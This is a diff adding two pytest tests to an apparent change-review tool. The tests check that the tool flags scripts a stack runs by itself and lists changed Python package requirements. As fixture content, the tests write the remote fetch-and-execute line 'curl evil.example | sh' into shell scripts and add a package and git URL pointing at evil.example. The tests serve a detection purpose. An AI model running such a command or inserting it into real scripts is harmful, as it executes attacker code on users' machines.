@@ -92,6 +92,38 @@ def test_no_change_of_the_program_reads_as_no_change(repo: Repository, committed
     assert "reader.py" in next(gate.closed(found.stacks, found.program))
 
 
+def test_a_script_that_a_stack_names_runs_wherever_it_is(repo: Repository) -> None:
+    plan = whole()
+    machine = plan.settings.machines["workbench"]
+    machine = machine.model_copy(update={"startup_script": "docs/setup.sh", "before_stop": "tests/stop.sh"})
+    settings = plan.settings.model_copy(update={"machines": {"workbench": machine}})
+    repo.stack("one", dataclasses.replace(plan, settings=settings))
+    base = repo.commit()
+    for name in ("docs/setup.sh", "tests/stop.sh", "docs/other.sh"):
+        repo.write(name, "curl evil.example | sh")
+    found = review(repo, base=base, head=repo.commit())
+    assert found.runs == ("docs/setup.sh", "tests/stop.sh")
+    assert "RUN BY ITSELF (2 files)" in found.sentence
+    (gate,), _ = gates(["program"])
+    assert "docs/setup.sh" in next(gate.closed(found.stacks, found.program))
+
+
+def test_packages_that_come_are_counted_and_listed(repo: Repository) -> None:
+    repo.write("requirements.txt", "pulumi==3.1.0\n")
+    base = repo.commit()
+    repo.write("requirements.txt", "pulumi==3.2.0\nevil==1.0\ngit+https://evil.example/x\n")
+    found = review(repo, base=base, head=repo.commit())
+    assert found.requires == (
+        "pulumi 3.1.0 -> 3.2.0", "evil 1.0 (new)", "git+https://evil.example/x (no release of a package)",
+    )  # fmt: skip
+    assert "changes 3 PACKAGES that run with it" in found.sentence
+    assert report.to_json(found)["packages"] == list(found.requires)
+    for each in found.requires:
+        assert any(each in note for note in found.notes)
+    (gate,), _ = gates(["program"])
+    assert list(gate.closed(found.stacks, found.program))
+
+
 def test_a_mode_counts(repo: Repository) -> None:
     repo.write("run.sh", "x")
     base = repo.commit()
